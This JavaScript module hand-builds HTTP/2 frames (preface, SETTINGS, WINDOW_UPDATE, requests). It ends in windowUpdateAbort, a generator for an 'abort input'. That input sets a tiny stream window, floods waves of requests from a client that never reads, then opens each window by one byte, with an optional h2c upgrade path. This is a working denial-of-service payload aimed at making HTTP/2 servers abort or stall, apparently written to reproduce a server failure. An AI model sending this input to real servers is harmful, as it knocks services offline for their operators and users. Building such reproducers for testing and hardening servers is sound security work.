// Just enough HTTP/2 (RFC 9113) to write frames by hand: a preface, SETTINGS, requests, WINDOW_UPDATE.

const MAGIC = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const END = 0x1 | 0x4; // END_STREAM, END_HEADERS

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

export function settings(values = {}) {
  const parts = Object.entries(values).map(([id, value]) => {
    const item = Buffer.alloc(6);
    item.writeUInt16BE(Number(id), 0);
    item.writeUInt32BE(value, 2);
    return item;
  });
  return frame(4, 0, 0, Buffer.concat(parts));
}

export function settingsAck() {
  return frame(4, 1, 0);
}

export function windowUpdate(stream, by) {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(by, 0);
  return frame(8, 0, stream, payload);
}

// A header field without indexing, name by its number in the static table.
function literal(index, value) {
  const text = Buffer.from(value, 'latin1');
  return Buffer.concat([Buffer.from([index, text.length]), text]);
}

export function request(stream, target) {
  // :method GET and :scheme http are whole entries of the static table.
  return frame(1, END, stream, Buffer.concat([Buffer.from([0x82, 0x86]), literal(4, target), literal(1, 'x')]));
}

export function preface() {
  return Buffer.concat([MAGIC, settings(), request(1, '/healthz')]);
}

// The abort input, in parts to be sent with a pause between them by a client that does not read: requests whose bodies
// fill their stream's window to the last byte, until the answers no longer fit the socket; then, while the last
// ones wait in the server, each stream's window is opened by one byte.
export function windowUpdateAbort({ target, size, upgrade }) {
  const WAVES = 60;
  const WAVE = 90; // fewer than the streams that a server allows at once
  const window = settings({ 4: size });
  const parts = [];
  if (upgrade) {
    const encoded = window.subarray(9).toString('base64url');
    parts.push(Buffer.from(
      `GET ${target} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: ${encoded}\r\n\r\n`,
      'latin1',
    ));
  }
  parts.push(Buffer.concat([MAGIC, window, windowUpdate(0, 0x7fff0000 - 65535)]));
  let stream = 3;
  const updates = [];
  for (let wave = 0; wave < WAVES; wave++) {
    const requests = [];
    for (let i = 0; i < WAVE; i++, stream += 2) {
      requests.push(request(stream, target));
      updates.push(windowUpdate(stream, 1));
    }
    parts.push(Buffer.concat(requests));
  }
  parts.push(Buffer.concat(updates));
  return parts;
}
